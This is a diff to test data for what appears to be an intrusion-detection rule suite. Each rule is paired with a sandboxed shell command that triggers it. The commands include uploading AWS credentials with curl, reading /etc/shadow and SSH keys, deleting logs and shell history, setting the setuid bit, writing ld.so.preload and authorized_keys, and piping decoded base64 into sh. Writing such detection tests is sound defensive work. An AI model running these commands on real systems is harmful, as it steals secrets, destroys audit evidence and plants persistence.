@@ -1,8 +1,8 @@
 """What must be done for each shipped rule to fire: data for ``test_shipped_rules_fire``.
 
 An act is a shell script that really does, harmlessly, what its rule looks for: it runs programs with
-the arguments that give an intruder away, or opens the file. Programs that are not there (kubectl,
-nmap, a miner) are played by a program that does nothing under that name. Nothing leaves the machine:
+the arguments that give an intruder away, or opens, renames, links or removes the file. Programs that are not there
+(kubectl, nmap, a miner) are played by a program that does nothing under that name. Nothing leaves the machine:
 the only address is 127.0.0.1, port 1, where nobody listens, in a network namespace of the test's own.
 
 Paths are absolute, because busybox runs its own applets without an exec when they are named without one.
@@ -97,6 +97,26 @@ IN_A_CONTAINER = {
     "file_uploaded_by_command_line": "/usr/bin/curl -T ./file http://192.0.2.1:1/",
     "sensitive_file_uploaded": "/usr/bin/curl -T /root/.aws/credentials http://127.0.0.1:1/",
     "cryptocurrency_miner_run": "/usr/bin/xmrig -o stratum+tcp://127.0.0.1:1",
+    "log_deleted": "/bin/mkdir -p /var/log; echo > /var/log/secure; /usr/bin/unlink /var/log/secure",
+    "log_emptied": "/bin/mkdir -p /var/log; echo old > /var/log/syslog; /usr/bin/truncate -s 0 /var/log/syslog",
+    "shell_history_deleted": """
+        /bin/mkdir -p /home/app
+        echo > /home/app/.bash_history
+        /bin/rm -f /home/app/.bash_history
+    """,
+    "shell_history_linked_away": "/bin/ln -s /dev/null .mysql_history",
+    "account_file_written": "/bin/cp /etc/passwd /etc/.new; /bin/mv /etc/.new /etc/passwd",
+    "setuid_bit_given": "/bin/cp /bin/busybox /tmp/rooted; /bin/chmod u+s /tmp/rooted",
+    "hidden_file_made_executable": "echo > /tmp/.dropped; /bin/chmod 755 /tmp/.dropped",
+    "secret_file_linked": "/bin/ln -s /etc/gshadow ./harmless",
+    "system_file_link_planted": "/bin/ln -s /etc/cron.d/app /tmp/app.log",
+    "trusted_program_replaced": "/bin/cp /bin/busybox /usr/bin/.new; /bin/mv /usr/bin/.new /usr/bin/top",
+    "protection_configuration_deleted": """
+        /bin/mkdir -p /etc/audit/rules.d
+        echo > /etc/audit/rules.d/x.rules
+        /bin/rm /etc/audit/../audit/rules.d/x.rules
+    """,
+    "file_renamed_to_ransom_suffix": "echo > ./ledger; /bin/mv ./ledger ./ledger.lockbit",
     "download_then_run": """
         /usr/bin/wget -O /tmp/fetched http://127.0.0.1:1/x
         /bin/cp /bin/busybox /tmp/dropped
@@ -137,14 +157,36 @@ ON_THE_HOST = {
     "sudo_or_su_by_service_account": "/usr/bin/setpriv --reuid=33 --clear-groups /usr/bin/su --version",
     "shadow_file_read": "/usr/bin/cat /etc/shadow",
     "ssh_private_key_read": "/usr/bin/mkdir -p .ssh; : > .ssh/id_rsa; /usr/bin/cat .ssh/id_rsa",
-    "authorized_keys_written": "/usr/bin/mkdir -p /root/.ssh; : > /root/.ssh/authorized_keys",
-    "cron_file_written": "/usr/bin/mkdir -p /etc/cron.d; : > /etc/cron.d/x",
+    "authorized_keys_written": (
+        "/usr/bin/mkdir -p /root/.ssh; : > /root/.ssh/x; /usr/bin/ln /root/.ssh/x /root/.ssh/authorized_keys"
+    ),
+    "cron_file_written": "/usr/bin/mkdir -p /etc/cron.d; : > /etc/evil; /usr/bin/mv /etc/evil /etc/cron.d/x",
     "systemd_unit_written": "/usr/bin/mkdir -p /etc/systemd/system; : > /etc/systemd/system/x.timer",
-    "loader_preload_written": ": > /etc/ld.so.preload",
+    "loader_preload_written": ": > /etc/x; /usr/bin/mv /etc/x /etc/pam.d/../ld.so.preload",
     "pam_configuration_written": ": >> /etc/pam.d/common-auth",
     "sudoers_written": "/usr/bin/mkdir -p /etc/sudoers.d; : > /etc/sudoers.d/x",
     "decoded_text_run_by_shell": "/bin/bash -c 'echo dHJ1ZQo= | base64 -d | sh'",
     "log_erased": "/usr/bin/truncate -s 0 /var/log/wtmp",
+    "log_deleted": """
+        ""/usr/bin/python3 -c 'import os
+        open("/var/log/faillog", "a").close()
+        os.unlink("/var/log/faillog")'""
+    """,
+    "log_emptied": "/usr/bin/truncate -s 0 /var/log/lastlog",
+    "shell_history_deleted": ": > /root/.bash_history; /usr/bin/rm /root/.bash_history",
+    "shell_history_linked_away": "/usr/bin/ln -s /dev/null /root/.zsh_history",
+    "account_file_written": "/usr/bin/cp /etc/group /etc/.new; /usr/bin/mv /etc/.new /etc/group",
+    "setuid_bit_given": """
+        /usr/bin/cp /usr/bin/true /root/rooted
+        /usr/bin/python3 -c 'import os; os.fchmod(os.open("/root/rooted", os.O_RDONLY), 0o4755)'
+    """,
+    "hidden_file_made_executable": ": > /dev/shm/dropped; /usr/bin/chmod +x /dev/shm/dropped",
+    "secret_file_linked": "/usr/bin/ln /etc/shadow /etc/harmless",
+    "system_file_link_planted": "/usr/bin/ln -s /etc/profile.d/x.sh /dev/shm/lock",
+    "protection_configuration_deleted": (
+        "/usr/bin/mkdir -p /etc/rsyslog.d; : > /etc/rsyslog.d/x.conf; /usr/bin/rm /etc/rsyslog.d/x.conf"
+    ),
+    "file_renamed_to_ransom_suffix": ": > ledger; /usr/bin/mv ledger ledger.encrypted",
     "process_environment_read": "/usr/bin/cat /proc/self/environ",
     "program_run_from_shared_memory": "/usr/bin/cp /usr/bin/true /dev/shm/tool; /dev/shm/tool",
     "program_run_from_memory": "$PROGRAMS/runner memfd $PROGRAMS/stand_in innocent",
